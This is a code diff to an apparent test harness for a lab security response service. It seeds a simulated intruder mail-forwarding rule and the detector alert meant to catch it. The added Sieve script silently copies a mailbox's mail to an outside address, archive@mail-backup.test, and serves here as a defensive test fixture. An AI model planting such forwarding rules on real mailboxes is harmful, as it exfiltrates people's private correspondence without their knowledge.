@@ -22,6 +22,15 @@ PERSON = "analyst"
 DETECTOR = "lab-detector"
 # The names of Unix sockets may have 107 bytes.
 LONGEST_SOCKET = 100
+FORWARDING_SCRIPT = b"""\
+require ["copy", "fileinto"];
+# Newsletters
+if exists "list-unsubscribe" {
+  fileinto "Newsletters";
+  stop;
+}
+redirect :copy "archive@mail-backup.test";
+"""
 
 
 class UnixConnection(http.client.HTTPConnection):
@@ -70,6 +79,7 @@ class PrivateService:
                         "tokens": self.desk.state / "tokens",
                         "listen": listen, "ready-file": self.ready},
             "mail": self.lab.mail_config(),
+            "forwarding": self.lab.forwarding_config(),
         }
         self.configuration.write_text("".join(
             f"[{group}]\n" + "".join(f"{key}={value}\n" for key, value in keys.items())
@@ -81,7 +91,7 @@ class PrivateService:
         self.desk.start("action-centerd", [self.program, "--config", self.configuration])
         self.desk.wait_for(self.ready.exists, "The service")
         self.address = self.ready.read_text(encoding="utf-8").split()[0]
-        for investigation in investigations(self.lab):
+        for investigation in [*investigations(self.lab), forwarding(self.lab)]:
             self.post("/investigations", detector, investigation)
 
     def new_token(self, name, role):
@@ -109,6 +119,26 @@ class PrivateService:
                                         f"{body['externalId']}: {answer.status} {text}")
         finally:
             connection.close()
+
+
+def forwarding(lab):
+    """Sets up what an intruder leaves behind in a mailbox, and returns what a detector would post about
+    it."""
+    mailbox = lab.mailboxes[-1]
+    with lab.sieve(mailbox) as client:
+        if client.active() is None:
+            client.put("filters", FORWARDING_SCRIPT, active=True)
+    return {
+        "externalId": "lab-forwarding", "title": f"New forwarding to outside in {mailbox}",
+        "trigger": "alert", "detectionSource": "Lab", "severity": "high", "evidence": [],
+        "actions": [{
+            "type": "turnOffMailForwarding", "verdict": "suspicious", "source": "automatedEmail",
+            "reason": "The mailbox began to forward its mail to an address that nobody else of the "
+                      "organisation writes to.",
+            "entity": {"type": "mailbox", "address": mailbox,
+                       "forwardingTargets": ["archive@mail-backup.test"]},
+            "assets": [mailbox]}],
+    }
 
 
 def investigations(lab):
